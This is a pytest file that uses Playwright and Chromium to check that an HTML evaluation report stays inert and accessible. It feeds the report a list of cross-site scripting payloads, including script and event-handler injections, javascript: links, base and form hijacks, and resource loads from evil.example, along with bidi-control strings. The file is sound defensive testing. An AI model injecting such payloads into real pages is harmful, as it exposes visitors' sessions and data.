"""The page in a real browser: hostile rows do nothing in it, and everything in it can be used without a mouse."""

from __future__ import annotations

import shutil
from collections.abc import Callable, Iterator
from importlib.util import find_spec
from itertools import pairwise
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from babelset.files.row import KEY
from babelset.report.collect import collect
from babelset.report.render import render

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = [
    pytest.mark.engine,
    pytest.mark.skipif(find_spec("playwright") is None, reason="playwright is not installed: pip install playwright"),
    pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium: apt-get install chromium"),
]

HOSTILE = [
    "<script>window.pwned = 1</script>",
    '<img src="http://evil.example/x.png" onerror="window.pwned = 1">',
    "<svg onload=window.pwned=1><style>@import 'http://evil.example/x.css'</style>",
    "</style></script></div><script src=//evil.example/x.js></script>",
    "<a href='javascript:window.pwned=1' autofocus onfocus=window.pwned=1>x</a>",
    '"><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "<base href=http://evil.example/><form action=//evil.example><input autofocus></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css><object data=//evil.example></object>",
    "\u202eelif.exe\u2066 \x1b[31m \x00 \ud800 \u2028",
    "x" * 1_000_000,
    "<" * 50_000,
]


class Watched:
    """A page on which every request but its own, every dialog and every word in the console is noted."""

    def __init__(self, browser: Browser, file: Path, **options: Any) -> None:
        self.requests: list[str] = []
        self.console: list[str] = []
        self.url = file.as_uri()
        self.page: Page = browser.new_context(**options).new_page()
        self.page.route("**/*", self._route)
        self.page.on("console", lambda message: self.console.append(message.text))
        self.page.on("pageerror", lambda error: self.console.append(str(error)))
        self.page.on("dialog", lambda dialog: self.console.append(dialog.message))
        self.page.goto(self.url)

    def _route(self, route: Any) -> None:
        if route.request.url == self.url:
            route.continue_()
        else:
            self.requests.append(route.request.url)
            route.abort()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield chromium
        chromium.close()


@pytest.fixture
def opened(browser: Browser, tmp_path: Path) -> Iterator[Callable[..., Watched]]:
    """Opens the report of a run."""
    pages: list[Watched] = []

    def open_(output: str, **options: Any) -> Watched:
        file = tmp_path / "report.html"
        file.write_text(render(collect([output])), "utf-8")
        pages.append(Watched(browser, file, **options))
        return pages[-1]

    yield open_
    for watched in pages:
        watched.page.context.close()


@pytest.fixture
def hostile(row: Callable[..., Any], run: Callable[..., str]) -> str:
    rows = []
    for number, text in enumerate(HOSTILE):
        data = row(
            number, text, text, keeps=[text[:50]], lang="urd_Arab", failing=[(text[:30], text)] if number % 2 else []
        )
        data[KEY] |= {"file": text, "translator": text, "scores": {text: [number / 10]}}
        data[KEY]["segments"][0] |= {"flags": [text], "candidates": [[text + " y", 0.5]]}
        rows.append(data)
    failed = [{"row": 1, "file": text, "line": 1, "reason": text, "raw": text} for text in HOSTILE]
    return run(*rows, failed=failed, manifest={"notice": HOSTILE[0], "inputs": [{"file": HOSTILE[1]}]})


@pytest.fixture
def spanish(row: Callable[..., Any], run: Callable[..., str]) -> str:
    texts = ["El río baja crecido.", "La montaña es alta.", "Canción de cuna.", "El gato duerme."]
    scores = [0.7, 0.2, 0.9, 0.5]
    rows = [
        row(
            number,
            f"Text {number}.",
            text,
            scores={"cometkiwi": score},
            failing=[("task", "rhyme")] if number == 3 else [],
        )
        for number, (text, score) in enumerate(zip(texts, scores, strict=True))
    ]
    return run(*rows)


def shown(page: Page) -> list[int]:
    """The numbers of the rows that can be seen, in their order."""
    visible = [sample for sample in page.locator(".sample").all() if sample.is_visible()]
    return [int(sample.get_attribute("data-row") or -1) for sample in visible]


def test_hostile_rows_run_nothing_and_send_nothing(hostile: str, opened: Callable[..., Watched]) -> None:
    watched = opened(hostile)
    page = watched.page
    for control in page.locator(".tools select").all():
        for index in range(control.locator("option").count()):
            control.select_option(index=index)
    page.locator(".tools select.kind").select_option("")
    page.get_by_label("Search").fill("<script>window")
    for sample in page.locator(".sample").all():
        sample.click(force=True) if sample.is_visible() else None
    page.wait_for_timeout(200)
    assert page.evaluate("window.pwned") is None
    assert (watched.requests, watched.console, page.url) == ([], [], watched.url)
    assert page.locator("main").locator("script, img, iframe, form, base, link, meta, object, style").count() == 0
    assert "[RLO]elif.exe" in page.content()


def test_the_policy_stops_what_is_not_ours(spanish: str, opened: Callable[..., Watched]) -> None:
    watched = opened(spanish)
    watched.page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.pwned = 1";
            const image = document.createElement("img");
            image.src = "http://evil.example/x.png";
            image.setAttribute("onerror", "window.pwned = 1");
            document.body.append(script, image);
        }"""
    )
    watched.page.wait_for_timeout(200)
    assert watched.page.evaluate("window.pwned") is None
    assert watched.requests == []
    assert any("Content Security Policy" in message for message in watched.console)


def test_search_and_sort_by_keyboard(spanish: str, opened: Callable[..., Watched]) -> None:
    watched = opened(spanish)
    page, keyboard = watched.page, watched.page.keyboard
    assert shown(page)[0] == 1  # the worst
    for _ in range(30):
        keyboard.press("Tab")
        if page.evaluate("document.activeElement.type") == "search":
            break
    keyboard.type("cancion CUNA")
    assert shown(page) == [2]
    assert page.locator("output").inner_text() == "1 of 4"
    for _ in "cancion CUNA":
        keyboard.press("Backspace")
    assert len(shown(page)) == 4
    keyboard.press("Tab")
    keyboard.press("End")  # of the kinds: rejected
    assert shown(page) == [3]
    keyboard.press("Home")
    keyboard.press("Tab")
    keyboard.press("ArrowDown")
    assert shown(page) == [0, 1, 2, 3]
    keyboard.press("ArrowDown")
    assert shown(page) == [1, 3, 0, 2]
    assert (watched.requests, watched.console) == ([], [])


def test_without_scripts_all_samples_are_there(spanish: str, opened: Callable[..., Watched]) -> None:
    page = opened(spanish, java_script_enabled=False).page
    assert len(shown(page)) == 4
    assert not page.locator(".tools").is_visible()


@pytest.mark.parametrize("width", [360, 1280])
def test_nothing_is_wider_than_the_window(hostile: str, opened: Callable[..., Watched], width: int) -> None:
    page = opened(hostile, viewport={"width": width, "height": 800}).page
    assert page.evaluate("document.documentElement.scrollWidth") <= width


def test_what_a_screen_reader_finds(spanish: str, opened: Callable[..., Watched]) -> None:
    page = opened(spanish).page
    for role in ("main", "search", "banner", "contentinfo"):
        assert page.get_by_role(role).count() == 1, role  # type: ignore[arg-type]
    assert page.get_by_role("img", name="0.2 to 0.25: 1 accepted, 0 rejected").count() == 1
    assert page.get_by_role("article", name="Row 3").count() == 1
    unnamed = "[...document.querySelectorAll('input, select, svg, section, article')].filter((one) => !one.labels?.length && !one.ariaLabel && !one.getAttribute('aria-labelledby')).length"
    assert page.evaluate(unnamed) == 0
    levels = page.evaluate("[...document.querySelectorAll('h1,h2,h3,h4,h5')].map((one) => Number(one.tagName[1]))")
    assert levels[0] == 1
    assert all(after <= before + 1 for before, after in pairwise(levels))
    ids = page.evaluate("[...document.querySelectorAll('[id]')].map((one) => one.id)")
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_stands_out(hostile: str, opened: Callable[..., Watched], scheme: str) -> None:
    """Every text has at least 4.5 times the luminance of its ground, or the other way round (WCAG AA)."""
    page = opened(hostile, color_scheme=scheme).page
    assert page.evaluate(CONTRAST) >= 4.5


CONTRAST = """() => {
    const numbers = (colour) => colour.match(/[\\d.]+/g).map(Number);
    const luminance = (colour) => {
        const [r, g, b] = numbers(colour).map((one) => one / 255).map((one) => one <= 0.03928 ? one / 12.92 : ((one + 0.055) / 1.055) ** 2.4);
        return 0.2126 * r + 0.7152 * g + 0.0722 * b;
    };
    const ground = (element) => {
        const colour = getComputedStyle(element).backgroundColor;
        return (numbers(colour)[3] ?? 1) > 0 || !element.parentElement ? colour : ground(element.parentElement);
    };
    const texts = [...document.body.querySelectorAll("*:not(script, style)")].filter(
        (element) => [...element.childNodes].some((node) => node.nodeType === 3 && node.data.trim()));
    return Math.min(...texts.map((element) => {
        const [low, high] = [getComputedStyle(element).color, ground(element)].map(luminance).sort((a, b) => a - b);
        return (high + 0.05) / (low + 0.05);
    }));
}"""
